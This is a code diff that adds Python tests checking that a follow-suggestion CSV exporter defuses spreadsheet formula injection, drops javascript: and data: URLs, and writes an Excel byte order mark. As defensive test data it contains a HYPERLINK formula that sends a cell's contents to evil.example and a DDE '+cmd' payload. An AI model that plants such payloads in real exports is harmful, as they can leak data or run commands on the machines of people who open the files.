@@ -73,6 +73,64 @@ def test_csv_round_trips() -> None:
     assert rows[0]["conversation"] == "" and rows[0]["voice"] == "80"
 
 
+def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
+    hostile = replace(
+        _s(1, "evil_staff", "1", url="javascript:alert(2)"),
+        display_name='=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
+        role="+cmd|'/C calc'!A0",
+        explanation="-2+3 @SUM(A1) and more",
+    )
+    tabbed = replace(_s(2, "tab", "2", url="data:text/html,x"), display_name="\t=1+1")
+    carriage = replace(_s(3, "cr", "3", url=" HTTPS://x.com/cr "), display_name="\r=1+1")
+    plain = replace(_s(4, "plain", "4"), display_name="José · Staffing × HR (A+)")
+    rows = list(
+        csv.DictReader(
+            io.StringIO(
+                export_suggestions([hostile, tabbed, carriage, plain], "csv").text, newline=""
+            )
+        )
+    )
+    assert rows[0]["display_name"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
+    assert rows[0]["role"] == "'+cmd|'/C calc'!A0"
+    assert rows[0]["explanation"] == "'-2+3 @SUM(A1) and more"
+    assert rows[1]["display_name"] == "'\t=1+1" and rows[2]["display_name"] == "'\r=1+1"
+    assert rows[3]["display_name"] == "José · Staffing × HR (A+)"  # ordinary text untouched
+    for row in rows:
+        for column, cell in row.items():
+            if column not in ("rank", "score", "voice", "conversation"):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+    # javascript: and data: addresses are dropped; X accounts get their x.com address instead
+    assert [r["url"] for r in rows] == [
+        "https://x.com/evil_staff",
+        "https://x.com/tab",
+        "HTTPS://x.com/cr",
+        "https://x.com/plain",
+    ]
+
+
+def test_csv_url_is_filled_only_for_valid_x_handles() -> None:
+    too_long = _s(1, "recruiting_desk_northwest", "6")
+    unseen = replace(_s(2, "1005985585335545856", "1005985585335545856"), handle_known=False)
+    mastodon = _s(3, "val@hr.social", "109", platform="mastodon", url="javascript:x")
+    rows = list(
+        csv.DictReader(io.StringIO(export_suggestions([too_long, unseen, mastodon], "csv").text))
+    )
+    assert [r["url"] for r in rows] == ["", "", ""]
+
+
+def test_csv_file_has_a_byte_order_mark_for_excel(tmp_path: Path) -> None:
+    named = replace(_s(1, "jose", "1"), display_name="José · Staffing × HR")
+    result = export_suggestions([named], "csv")
+    out = tmp_path / "who.csv"
+    write_export(result, out)
+    data = out.read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf") and data == result.data()
+    assert "José · Staffing × HR" in data.decode("utf-8-sig")
+    # the platform files stay plain UTF-8: their importers expect no BOM
+    mastodon = export_suggestions(SUGGESTIONS, "mastodon-follows")
+    assert not mastodon.data().startswith(b"\xef\xbb\xbf")
+
+
 def test_bluesky_list_records_validate_against_the_lexicon() -> None:
     owner = "did:plc:z72i7hdynmk6r22z27h6tvur"
     result = export_suggestions(SUGGESTIONS, "bluesky-list", owner=owner, now=WHEN)
